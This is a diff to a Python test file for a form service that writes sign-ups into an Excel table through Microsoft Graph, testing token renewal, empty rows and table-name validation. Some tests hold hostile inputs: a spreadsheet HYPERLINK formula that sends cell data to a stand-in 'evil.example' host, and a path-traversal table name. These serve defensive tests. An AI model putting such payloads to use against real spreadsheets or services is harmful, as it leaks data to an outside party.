@@ -58,6 +58,39 @@ def test_a_sign_up_becomes_one_row_in_the_excel_table(m365_app, graph):
     assert graph.token_requests == 1
 
 
+def test_a_token_near_its_end_or_revoked_is_replaced(m365_app, graph):
+    def graph_calls():
+        return len([path for _method, path in graph.requests if path.startswith("/v1.0/")])
+
+    client = m365_app.test_client()
+    graph.expires_in = 200  # msal renews a token with less than five minutes left
+    submit(client)
+    assert deliver_all(m365_app) == {"done": 1}
+    assert graph.token_requests == graph_calls() >= 3  # a fresh token for every call
+    graph.expires_in = 3599
+    submit(client)
+    asked = graph.token_requests
+    assert deliver_all(m365_app) == {"done": 1}
+    assert graph.token_requests == asked + 1  # then kept for the calls after it
+    graph.tokens.clear()  # revoked: Graph answers 401 to the cached token
+    submit(client)
+    assert deliver_all(m365_app) == {"done": 1}
+    assert graph.token_requests == asked + 2
+    assert sorted(sheet_references(graph)) == sorted(stored_references(m365_app))
+
+
+def test_the_empty_row_excel_gives_a_new_table_is_left_alone(make_app, tmp_path):
+    fake = GraphFake(tmp_path, headers=list(HEADERS), empty_rows=1).start()
+    try:
+        app = make_app(**fake.environment())
+        submit(app.test_client())
+        assert deliver_all(app) == {"done": 1}
+        assert deliver_all(app) == {}
+        assert [row["Referens"] for row in fake.table()] == ["", stored_references(app)[0]]
+    finally:
+        fake.stop()
+
+
 def test_formula_like_and_hostile_text_arrives_as_the_safe_text(make_app, graph):
     hostile = {
         "company": '=HYPERLINK("http://evil.example/?"&A1;"klicka")',
@@ -277,6 +310,15 @@ def test_secret_and_certificate_together_or_an_unreadable_certificate_stop_the_a
     (tmp_path / "app.pem").write_bytes(elliptic.private_key_pem.bytes() + elliptic.cert_chain_pems[0].bytes())
     with pytest.raises(M365ConfigError, match="RSA"):
         make_app(**graph.environment(FORMSVC_M365_CLIENT_SECRET="", FORMSVC_M365_CERTIFICATE_FILE=tmp_path / "app.pem"))
+
+
+@pytest.mark.parametrize("name", ["../items/other", "Anmälningar 2026", "1Tabell", "a?b=c", ""])
+def test_a_table_name_excel_would_refuse_stops_the_app(make_app, graph, name):
+    if not name:  # empty means the default, which is fine
+        make_app(**graph.environment(FORMSVC_M365_TABLE=name))
+        return
+    with pytest.raises(M365ConfigError, match="FORMSVC_M365_TABLE"):
+        make_app(**graph.environment(FORMSVC_M365_TABLE=name))
 
 
 def test_a_complete_setup_starts_and_says_where_rows_go(make_app, graph, caplog):
